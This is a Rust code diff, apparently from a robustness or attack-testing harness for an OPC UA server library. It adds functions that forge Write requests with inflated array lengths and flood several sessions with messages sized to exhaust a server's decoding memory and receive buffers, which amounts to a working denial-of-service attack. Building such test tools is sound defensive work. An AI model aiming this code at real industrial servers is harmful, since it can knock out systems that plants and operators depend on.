@@ -4,8 +4,9 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
 use takt_app::{Provider, Recording, Variable};
+use takt_ua::binary::Limits;
 use takt_ua::structures::{WriteRequest, WriteValue};
-use takt_ua::{ByteString, DataValue, NodeId, Variant};
+use takt_ua::{ByteString, DataValue, LocalizedText, NodeId, Variant};
 
 use crate::channel::{Lost, PATIENCE, Session, Way};
 use crate::error::AttackError;
@@ -63,6 +64,53 @@ pub fn serve(
     line(format!("{name} serves {}", endpoints.join(" and ")));
     while !interrupted.load(Ordering::Acquire) {
         std::thread::sleep(STEP);
+    }
+    Ok(())
+}
+
+/// Returns a Write of an array of null LocalizedTexts, each of one byte.
+fn write_texts(session: &Session, count: usize) -> Vec<u8> {
+    let write = WriteRequest {
+        request_header: session.header(),
+        nodes_to_write: vec![WriteValue {
+            node_id: node(),
+            attribute_id: 13,
+            value: DataValue {
+                value: Some(Vec::<LocalizedText>::new().into()),
+                ..DataValue::default()
+            },
+            ..WriteValue::default()
+        }],
+    };
+    let mut message = request::message(&write);
+    // The message ends with the length of the array.
+    message.truncate(message.len() - size_of::<u32>());
+    message.extend(u32::try_from(count).unwrap_or(u32::MAX).to_le_bytes());
+    message.resize(message.len() + count, 0);
+    message
+}
+
+/// Writes arrays over several connections at a time: the largest that a server decodes, and the longest that it receives.
+pub(crate) fn write_elements(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
+    let mut sessions = Vec::new();
+    for _ in 0..attacker.count(4) {
+        let session = Session::open(attacker, Way::Tcp)?;
+        let decoded = Limits::STRUCTURE.max_memory / Limits::ELEMENT;
+        let messages = [decoded, BYTES - 1024].map(|count| write_texts(&session, count));
+        sessions.push((session, messages));
+    }
+    while attacker.goes_on() {
+        for (session, messages) in &mut sessions {
+            for message in messages.iter() {
+                session.channel.push(attacker, message)?;
+            }
+        }
+        for (session, messages) in &mut sessions {
+            for _ in messages.iter() {
+                while session.channel.receive(attacker, PATIENCE)?.is_none() && attacker.goes_on() {
+                }
+            }
+        }
     }
     Ok(())
 }
